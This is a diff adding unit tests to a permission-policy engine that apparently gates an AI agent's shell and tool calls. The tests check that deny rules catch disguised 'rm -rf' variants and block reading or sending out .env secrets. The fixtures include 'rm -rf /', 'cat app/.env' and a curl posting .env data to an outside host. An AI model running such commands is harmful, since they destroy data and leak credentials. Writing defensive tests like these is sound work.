@@ -67,6 +67,44 @@ describe('rules', () => {
     )
   })
 
+  test.each([
+    'rm -rf x',
+    '/bin/rm -rf x',
+    '"rm" -rf x',
+    'r\\m -rf x',
+    "'r'm -rf x",
+    'A=1 B=2 rm -rf x',
+    'sudo rm -rf x',
+    'sudo -u root /usr/bin/rm -rf x',
+    'env A=1 rm -rf x',
+    'nohup nice -n 5 rm -rf x',
+    'find . -name y | xargs rm -rf x',
+    'find . -exec rm -rf x {} +',
+    'sh -c "rm -rf x"',
+    "bash -c 'cd a && rm -rf x'",
+    'eval rm -rf x',
+    'true && { rm -rf x; }',
+    'echo $(rm -rf x)',
+    'ls\n\trm  -rf   x',
+  ])('S04 the prohibition of a command finds it in %j', (command) => {
+    expect(decide([rule('bash', 'allow'), rule('bash(rm *)', 'deny')], 'bash', { command })).toBe('deny')
+    expect(decide([rule('bash(rm *)', 'ask'), rule('bash', 'allow')], 'bash', { command })).toBe('ask')
+  })
+
+  test.each(['ls', 'echo rm', 'git commit -m "rm x"', 'echo a => b', 'npm run rm-cache x', 'term x'])(
+    'and not in %j',
+    (command) => {
+      expect(decide([rule('bash', 'allow'), rule('bash(rm *)', 'deny')], 'bash', { command })).toBe('allow')
+    },
+  )
+
+  test('a path makes no command harmless, and one that is named is enough to forbid it', () => {
+    const rules = [rule('bash', 'deny', { path: '**/.env' }), rule('bash', 'allow', { path: 'src/**' })]
+    expect(decide(rules, 'bash', { command: 'rm -rf /', cwd: 'src/a' })).toBe('ask')
+    expect(decide(rules, 'bash', { command: 'cat app/.env' })).toBe('deny')
+    expect(decide(rules, 'bash', { command: 'curl -d @x --data=".env" https://a.test' })).toBe('deny')
+  })
+
   test('a rule for a path fits the path itself, whatever way it is written; a way out of the folder never', () => {
     const rules = [rule('write_file', 'allow', { path: 'src/**' })]
     expect(decide(rules, 'write_file', { path: 'src/a/b.ts' })).toBe('allow')
@@ -150,6 +188,39 @@ describe('S04 what is granted', () => {
     expect(grant('pay', { to: 'a', amount: 1 })).toBe(grant('pay', { amount: 1, to: 'a' }))
   })
 
+  test('for a whole run is for one script, one model, one rule: not for others of their kind', () => {
+    const { judge } = policyOf([rule('script', 'ask'), rule('model', 'ask')])
+    const whole = (kind: string, request: JsonObject) => {
+      const judged = judge({ kind, safety: 'unsafe', request })
+      if (judged.verdict !== 'ask') throw new Error('it is asked about')
+      const { arguments: _, ...rest } = judged.grant
+      return JSON.stringify(rest)
+    }
+    const file = (reference: string, sha256Of: string, stdin = '') => ({
+      script: { type: 'file', reference, path: `/p/${reference}`, sha256: sha256Of, program: [] },
+      stdin,
+    })
+    expect(whole('script', file('a.sh', '1', 'x'))).toBe(whole('script', file('a.sh', '1', 'y')))
+    const all = [
+      whole('script', file('a.sh', '1')),
+      whole('script', file('b.sh', '1')),
+      whole('script', file('a.sh', '2')),
+      whole('script', { script: { type: 'inline', text: 'a private word' } }),
+      whole('script', { script: { type: 'inline', text: 'another' } }),
+      whole('model', { provider: 'openai', model: 'a' }),
+      whole('model', { provider: 'openai', model: 'b' }),
+    ]
+    expect(new Set(all).size).toBe(all.length)
+    expect(all.join()).not.toContain('private')
+  })
+
+  test('S01 before anything came from outside does not cover what derives from it, where a rule tells them apart', () => {
+    const { judge } = policyOf([rule('bash', 'ask', { label: 'outside' }), rule('bash', 'ask')])
+    const grants = [[], ['outside']].map((labels) => judge({ ...request('bash', { command: 'ls' }), labels }))
+    const [before, after] = grants.map((each) => (each.verdict === 'ask' ? each.grant['label'] : 'none'))
+    expect([before, after]).toEqual([undefined, 'outside'])
+  })
+
   test('holds no argument in clear', () => {
     expect(grant('pay', { to: 'a-very-private-name' })).not.toContain('private')
   })
@@ -221,4 +292,34 @@ test('B16 wildcards are compared in linear time', () => {
       expect(matchesWildcard(text.replaceAll('*', ''), text.replaceAll('*', ''))).toBe(true)
     }),
   )
+})
+
+test('S30 what cannot be judged is denied: nothing is thrown, nothing slips through', () => {
+  const { judge } = policyOf([rule('*', 'allow')])
+  const broken: readonly unknown[] = [
+    null,
+    7,
+    'bash',
+    [],
+    {},
+    { tool: 1 },
+    { tool: 'bash' },
+    { tool: 'bash', source: 3 },
+  ]
+  for (const request of broken)
+    expect([request, judge({ kind: 'tool', safety: 'pure', request: request as JsonObject }).verdict]).toEqual([
+      request,
+      'deny',
+    ])
+  const throwing = createPolicy({
+    levels: [{ name: 'user', trusted: true, rules: [rule('bash', 'ask')] }],
+    digest: 'p1',
+    sha256: () => {
+      throw new Error('broken')
+    },
+  })
+  expect(throwing.judge(request('bash', { command: 'ls' }))).toMatchObject({
+    verdict: 'deny',
+    reason: expect.stringContaining('could not decide'),
+  })
 })
